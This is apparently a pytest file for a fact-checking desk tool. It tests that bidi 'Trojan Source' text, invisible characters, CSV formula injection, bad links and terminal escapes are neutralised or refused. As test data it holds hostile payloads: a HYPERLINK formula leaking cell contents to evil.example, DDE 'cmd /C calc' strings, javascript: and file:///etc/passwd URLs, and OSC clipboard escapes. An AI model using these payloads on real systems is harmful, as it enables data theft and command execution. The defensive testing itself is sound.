"""Hostile text, exports and links (no Qt here; the reader is in test_rel_gui.py).

* bidi controls ("Trojan Source") are counted on import, warned about, flagged in the CSV;
* zero-width characters, combining marks and emoji sequences survive with exact offsets;
* a span starting on a lone haraka (or cutting one off) is refused with a clear message;
* every CSV cell starting with = + - @ TAB CR is neutralised, also behind white space,
  invisible or bidi characters or full-width (CSV and TSV); JSON escapes properly;
  an existing export is never overwritten without --force;
* only http(s) links without credentials (or invisible characters) are stored.
"""

from __future__ import annotations

import csv
import json
import unicodedata

import pytest
from rel_support import hostile, row_counts, run_cli, sha256

from factcheck.cli.main import main
from factcheck.desk import Desk
from factcheck.export import CSV_COLUMNS, write_csv_report
from factcheck.gui.qt_reader import BIDI_MARKER, display_text
from factcheck.model import InvalidInput, SourceInput, validate_source_url
from factcheck.text import BIDI_CONTROLS, count_bidi_controls, find_bidi_controls

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def db(tmp_path):
    return tmp_path / "text.sqlite"


@pytest.fixture
def cli(db, capsys):
    def run(*args):
        code = main(["--db", str(db), *map(str, args)])
        out, err = capsys.readouterr()
        assert "Traceback" not in err
        return code, out, err

    return run


def one_line_error(code, err, *needles):
    assert code == 1, err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("factcheck: error: "), err
    for needle in needles:
        assert needle in lines[0], lines[0]


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(rows[0], r)) for r in rows[1:]]


# -- bidi controls --------------------------------------------------------------------------

TROJAN = (
    "المرفق: \u202egnp.exe\u202c آمن تماماً.\n"
    "قال \u2066المتحدث\u2069 إن\u200f الملف \u2067سليم\u2069.\n"
    "No controls in this sentence.\n"
)


def test_bidi_controls_counted_warned_flagged_and_shown(cli, db, tmp_path):
    n = count_bidi_controls(TROJAN)
    assert n == 7
    path = tmp_path / "trojan.txt"
    path.write_text(TROJAN, encoding="utf-8")
    hostile()
    code, out, err = cli("import", path)
    assert code == 0
    assert err.strip() == (
        f"warning: {path} holds {n} bidi control character(s); displayed text may "
        "differ from the stored text"
    )
    code, out, _ = cli("articles", "--json")
    assert json.loads(out)[0]["bidi_controls"] == n

    desk = Desk.open(db, load_seeds=False)
    try:
        stored = desk.article(1).text
        assert stored == TROJAN  # kept as stored (logical text), never stripped
        for sentence in desk.sentences(1):
            desk.add_claim(1, sentence.start, sentence.end)
        claims = desk.claims(1)
    finally:
        desk.close()
    out_csv = tmp_path / "report.csv"
    assert cli("export", "csv", out_csv)[0] == 0
    rows = read_csv(out_csv)
    assert [int(r["bidi_controls"]) for r in rows] == [
        count_bidi_controls(c.quote) for c in claims
    ]
    assert [int(r["bidi_controls"]) for r in rows] == [2, 5, 0]
    assert [r["claim_text"] for r in rows] == [c.quote for c in claims]

    shown = display_text(TROJAN)
    assert len(shown) == len(TROJAN)  # one for one: offsets stay valid
    assert not set(shown) & BIDI_CONTROLS
    assert [i for i, ch in enumerate(shown) if ch == BIDI_MARKER] == find_bidi_controls(
        TROJAN
    )
    for i, (a, b) in enumerate(zip(TROJAN, shown)):
        assert a == b or (a in BIDI_CONTROLS and b == BIDI_MARKER), i


# -- invisible characters, combining marks, emoji sequences ---------------------------------

TRICKY = (
    "قال\u200c الوزير\u200b إنَّ العائلة 👩\u200d👩\u200d👧 وصلت 🇸🇦 اليوم.\n"
    "Cafe\u0301 soft\u00adhyphen and 👍🏽 thumbs, word\u2060joiner.\n"
    "بِسْمِ اللَّهِ الرَّحْمَٰنِ الرَّحِيمِ. كلمة\ufeffمخفية.\n"
)


def test_invisible_and_combining_characters_survive_with_exact_offsets(
    cli, db, tmp_path
):
    path = tmp_path / "tricky.txt"
    path.write_text(TRICKY, encoding="utf-8")
    hostile()
    assert cli("import", path)[0] == 0
    expected = unicodedata.normalize("NFC", TRICKY)
    desk = Desk.open(db, load_seeds=False)
    try:
        text = desk.article(1).text
        assert text == expected
        for invisible in ("\u200c", "\u200b", "\u200d", "\u00ad", "\u2060", "\ufeff"):
            assert text.count(invisible) == expected.count(invisible)
        pieces = [
            "👩\u200d👩\u200d👧",
            "🇸🇦",
            "Café",
            "👍🏽",
            "الرَّحْمَٰنِ",
            "كلمة\ufeffمخفية",
        ]
        for piece in pieces:
            start = text.index(piece)
            claim = desk.add_claim(1, start, start + len(piece))
            assert claim.quote == piece
        sentences = desk.sentences(1)
        assert all(text[s.start : s.end] == s.text for s in sentences)
    finally:
        desk.close()
    out_csv = tmp_path / "r.csv"
    assert cli("export", "csv", out_csv)[0] == 0
    rows = read_csv(out_csv)
    assert sorted(r["claim_text"] for r in rows) == sorted(pieces)
    for r in rows:
        assert text[int(r["start"]) : int(r["end"])] == r["claim_text"]
    _code, out, _ = cli("claims", "--json")
    assert sorted(c["text"] for c in json.loads(out)) == sorted(pieces)


def test_span_on_a_lone_haraka_is_refused_clearly(cli, db):
    text = "قَالَ الْوَزِيرُ إِنَّ النُّمُوَّ جَيِّدٌ."
    desk = Desk.open(db, load_seeds=False)
    aid = desk.import_text(text).article_id
    try:
        word = text.index("إِنَّ")
        cases = [
            (1, 5, "starts on a combining mark"),  # starts on the fatha of ق
            (
                word + 4,
                word + 6,
                "starts on a combining mark",
            ),  # on the fatha after shadda
            (0, 1, "cuts the combining marks"),  # ends between ق and its fatha
            (
                word,
                word + 3,
                "cuts the combining marks",
            ),  # ends between ن and its shadda
        ]
        for start, end, needle in cases:
            hostile()
            with pytest.raises(InvalidInput, match=needle):
                desk.add_claim(aid, start, end)
        ok = desk.add_claim(aid, word, word + len("إِنَّ"))
        assert ok.quote == "إِنَّ"
    finally:
        desk.close()
    before = row_counts(db)
    for start, end, needle in cases:
        code, _out, err = cli("claim", "add", aid, "--span", f"{start}:{end}")
        one_line_error(code, err, needle, f"{start}:{end}")
    assert row_counts(db) == before


# -- exports --------------------------------------------------------------------------------

POISON = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _poisoned_db(db, tmp_path):
    desk = Desk.open(db, load_seeds=False, annotator="@annotator")
    body = "\n".join(f"{p} قال الوزير." for p in POISON)
    aid = desk.import_text(
        POISON[0] + "\n" + body,
        publisher="+publisher",
        url="-1+2",
    ).article_id
    text = desk.article(aid).text
    for i, poison in enumerate(POISON):
        # A stored text's line ends are LF: there, the CR poison is the line after it.
        poison = poison.lstrip("\r")
        start = text.index(poison, len(POISON[0]) + 1)
        end = start + len(poison) + len(" قال الوزير.")
        claim = desk.add_claim(
            aid,
            start,
            end,
            note=POISON[(i + 1) % len(POISON)],
            sources=[
                SourceInput(url=f"https://example.org/{i}", title=POISON[(i + 2) % 6])
            ],
        )
        assert claim.quote.startswith(poison)
    desk.close()
    # the newsroom may edit status labels in the database: poison one too
    from rel_support import connect

    conn = connect(db)
    conn.execute(
        "UPDATE statuses SET label_en = '=1+1', label_ar = '@x' WHERE id = 'unverified'"
    )
    conn.commit()
    conn.close()


def test_every_formula_like_cell_is_neutralised(cli, db, tmp_path):
    _poisoned_db(db, tmp_path)
    out_csv = tmp_path / "report.csv"
    hostile(len(POISON))
    assert cli("export", "csv", out_csv)[0] == 0
    rows = read_csv(out_csv)
    assert len(rows) == len(POISON)
    neutralised = 0
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
            neutralised += cell.startswith("'")
    desk = Desk.open(db, load_seeds=False)
    try:
        claims = {c.id: c for c in desk.claims()}
    finally:
        desk.close()
    for row in rows:
        claim = claims[int(row["claim_id"])]
        assert row["claim_text"] == "'" + claim.quote  # undo the one quote: exact text
        assert row["note"] == "'" + claim.note
        assert row["annotator"] == "'@annotator"
        assert row["status_label_en"] == "'=1+1"
        assert row["publisher"] == "'+publisher" and row["article_url"] == "'-1+2"
        assert row["article_title"] == "'" + POISON[0]
    assert neutralised >= len(rows) * 8


# Formulas a spreadsheet still runs although they do not start with = + - @ TAB CR.
HIDDEN_FORMULAS = [
    " =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\u2067\u200b=1+1",
    "\uff1d1+1",
    "\u3000\uff0bcmd|' /C calc'!A0",
    "\ufeff@SUM(1+1)",
]


def test_hidden_formulas_are_neutralised_in_the_csv_and_the_tsv(cli, db, tmp_path):
    from factcheck.export.cells import restore_cell, split_values
    from factcheck.export.research import CHECKWORTHY_FILE

    desk = Desk.open(db, load_seeds=False)
    try:
        text = "عنوان\n" + "\n".join(f"{p} قال الوزير." for p in HIDDEN_FORMULAS)
        aid = desk.import_text(text).article_id
        stored = desk.article(aid).text
        for i, poison in enumerate(HIDDEN_FORMULAS):
            start = stored.index(poison)
            desk.add_claim(
                aid,
                start,
                start + len(poison) + len(" قال الوزير."),
                note="\n" + HIDDEN_FORMULAS[i - 1],
                sources=[SourceInput("https://example.org/s", title=HIDDEN_FORMULAS[i - 2])],
            )
        claims = {c.id: c for c in desk.claims()}
        poisoned_sentences = [s.text for s in desk.sentences(aid)][1:]
    finally:
        desk.close()
    hostile(len(HIDDEN_FORMULAS))
    assert cli("export", "csv", tmp_path / "r.csv")[0] == 0
    rows = read_csv(tmp_path / "r.csv")
    assert len(rows) == len(HIDDEN_FORMULAS)
    for row in rows:
        claim = claims[int(row["claim_id"])]
        for column, value in (("claim_text", claim.quote), ("note", claim.note)):
            assert row[column] == "'" + value, (column, row[column])
            assert restore_cell(row[column]) == value
        title = claim.sources[0].title  # a multi-value cell: '|' in it escaped
        assert row["source_titles"].startswith("'")
        assert split_values(restore_cell(row["source_titles"])) == [title]
    assert cli("export", "research", tmp_path / "research")[0] == 0
    tsv = (tmp_path / "research" / CHECKWORTHY_FILE).read_text(encoding="utf-8")
    sentences = [line.split("\t")[3] for line in tsv.splitlines()[1:]]
    assert sentences[0] == "عنوان"
    # (a sentence does not start with white space: " =1+1" is the sentence "=1+1 …")
    assert sentences[1:] == ["'" + text for text in poisoned_sentences]


def test_json_output_escapes_everything(cli, db, tmp_path):
    nasty = 'q"uo\\te \x1b[31m red \x07 </script> \u202e مرحبا 😀 {"x": [1]}'
    separators = nasty + " \u2028 line \u2029 para \x85 nel"
    desk = Desk.open(db, load_seeds=False)
    try:
        aid = desk.import_text(
            "عنوان " + nasty + "\nقال الوزير إن الرقم صحيح."
        ).article_id
        claim = desk.add_claim_for_sentence(aid, 2, note=separators)
    finally:
        desk.close()
    hostile()
    for args in (
        ("claims", "--json"),
        ("articles", "--json"),
        ("history", "--json"),
        ("sentences", aid, "--json"),
    ):
        code, out, _ = cli(*args)
        assert code == 0
        data = json.loads(out)
        assert data
    code, out, _ = cli("claims", "--json")
    assert json.loads(out)[0]["note"] == separators
    code, out, _ = cli("articles", "--json")
    assert json.loads(out)[0]["title"] == "عنوان " + nasty
    code, out, _ = cli("sentences", aid, "--json")
    assert json.loads(out)[0]["text"] == "عنوان " + nasty
    # raw control characters never reach the JSON text unescaped
    assert "\x1b" not in out and "\x07" not in out
    # and through a real process: valid UTF-8 bytes, parseable
    result = run_cli(db, "claims", "--json")
    assert result.returncode == 0
    assert json.loads(result.stdout)[0]["id"] == claim.id


def test_export_never_overwrites_an_existing_file_without_force(cli, db, tmp_path):
    _poisoned_db(db, tmp_path)
    target = tmp_path / "existing.csv"
    target.write_text("precious\n", encoding="utf-8")
    digest = sha256(target)
    hostile(3)
    code, _, err = cli("export", "csv", target)
    one_line_error(code, err, "already exists")
    assert sha256(target) == digest
    desk = Desk.open(db, load_seeds=False)
    try:
        with pytest.raises(InvalidInput, match="already exists"):
            write_csv_report(desk, target)
        with pytest.raises(InvalidInput, match="is a folder"):
            write_csv_report(desk, tmp_path, overwrite=True)
    finally:
        desk.close()
    assert sha256(target) == digest
    code, _out, err = cli("export", "csv", target, "--force")
    assert code == 0
    assert len(read_csv(target)) == len(POISON)
    assert (
        sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".factcheck-"))
        == []
    )


# -- links ----------------------------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(document.cookie)",
    "  javascript:alert(1)  ",
    "java\tscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "FILE://C:/Windows/system32",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "ftp://example.org/file",
    "//example.org/scheme-relative",
    "http:example.org",
    "https://",
    "https://user:secret@example.org/",
    "https://user@example.org/",
    "https://:secret@example.org/",
    "https://example.org@evil.example/",
    "https://exa mple.org/",
    "https://example.org:99999/",
    "http://[::1",
    "https://example.org/\x00",
    "https://example.org/\x9b31m",
    "https://example.org/\u202efdp.exe",  # shows as .../exe.pdf
    "https://\u202egro.elpmaxe",
    "https://exa\u200bmple.org/",
    "",
    "   ",
]
GOOD_URLS = [
    "https://example.org/",
    "http://example.org/path?q=1#frag",
    "HTTPS://EXAMPLE.ORG/UPPER",
    "https://ar.wikipedia.org/wiki/%D9%85%D8%B5%D8%B1",
    "https://example.org/مقال/١٢",
]


@pytest.mark.parametrize("url", BAD_URLS)
def test_bad_link_is_refused_everywhere(db, url):
    desk = Desk.open(db, load_seeds=False)
    try:
        aid = desk.import_text("قال الوزير إن الرقم صحيح. وأضاف شيئاً.").article_id
        claim = desk.add_claim_for_sentence(aid, 1, sources=["https://example.org/ok"])
        before = row_counts(db)
        hostile()
        with pytest.raises(InvalidInput):
            validate_source_url(url)
        with pytest.raises(InvalidInput):
            desk.add_source(claim.id, url)
        with pytest.raises(InvalidInput):
            desk.add_source(
                claim.id,
                SourceInput(
                    url="https://example.org/x",
                    archive_url=url if url.strip() else "x:",
                ),
            )
        with pytest.raises(
            InvalidInput
        ):  # a claim with one bad source is not created at all
            desk.add_claim_for_sentence(
                aid, 2, sources=["https://example.org/fine", url]
            )
        with pytest.raises(InvalidInput):
            desk.update_source(claim.sources[0].id, SourceInput(url=url))
        assert row_counts(db) == before
        assert desk.claim(claim.id).sources[0].url == "https://example.org/ok"
    finally:
        desk.close()


@pytest.mark.parametrize("url", GOOD_URLS)
def test_good_link_is_kept_as_given(db, url):
    assert validate_source_url(url) == url
    desk = Desk.open(db, load_seeds=False)
    try:
        aid = desk.import_text("قال الوزير إن الرقم صحيح.").article_id
        claim = desk.add_claim_for_sentence(aid, 1, sources=[url])
        assert desk.claim(claim.id).sources[0].url == url
    finally:
        desk.close()


def test_cli_refuses_bad_links_before_writing_anything(cli, db):
    desk = Desk.open(db, load_seeds=False)
    aid = desk.import_text("قال الوزير إن الرقم صحيح. وأضاف شيئاً.").article_id
    claim = desk.add_claim_for_sentence(aid, 1)
    desk.close()
    before = row_counts(db)
    hostile(3)
    code, _, err = cli(
        "claim",
        "add",
        aid,
        "--sentence",
        2,
        "--source",
        "https://ok.example/",
        "--source",
        "javascript:alert(1)",
    )
    one_line_error(code, err, "Only http and https")
    code, _, err = cli(
        "claim",
        "set",
        claim.id,
        "--status",
        "false",
        "--source",
        "https://user:pw@example.org/",
    )
    one_line_error(code, err, "user name or password")
    code, _, err = cli(
        "claim", "set", claim.id, "--note", "x", "--source", "file:///etc/passwd"
    )
    one_line_error(code, err, "Only http and https")
    assert row_counts(db) == before
    code, out, _ = cli("claims", "--json")
    stored = json.loads(out)[0]
    assert (
        stored["status"] == "unverified"
        and stored["note"] == ""
        and stored["sources"] == []
    )


# -- terminal escapes in article text -------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07 \x1b[2J\x1b[31mRED \x1b]52;c;ZXZpbA==\x07 \x9b1m"


def _raw_controls(text: str) -> list[str]:
    return [ch for ch in text if unicodedata.category(ch) == "Cc" and ch not in "\n\t"]


def test_terminal_escape_sequences_in_articles_are_never_sent_raw(cli, db, tmp_path):
    body = "قال الوزير إن الاقتصاد نما بنسبة كبيرة هذا العام. " * 30
    path = tmp_path / "esc\x1b[2J.txt"  # hostile file name too
    path.write_text(f"Title {ESCAPES}\n{body}\n", encoding="utf-8")
    hostile(2)
    code, out, err = cli("import", path)
    assert code == 0, err
    assert not _raw_controls(out + err)
    assert "␛]0;pwned␇" in out
    desk = Desk.open(db, load_seeds=False)
    try:
        title = desk.articles()[0].title
        assert title == f"Title {ESCAPES}".strip()  # stored exactly as given
        desk.add_claim(1, 0, len(title), note=ESCAPES)
    finally:
        desk.close()
    for args in (
        ("articles",),
        ("claims",),
        ("sentences", 1),
        ("history",),
        ("report",),
        ("import", path),
        ("claim", "add", 1, "--span", "0:0"),
    ):
        code, out, err = cli(*args)
        assert not _raw_controls(out + err), args
    code, out, _ = cli("claims", "--json")  # JSON keeps the exact text, escaped
    assert json.loads(out)[0]["note"] == ESCAPES
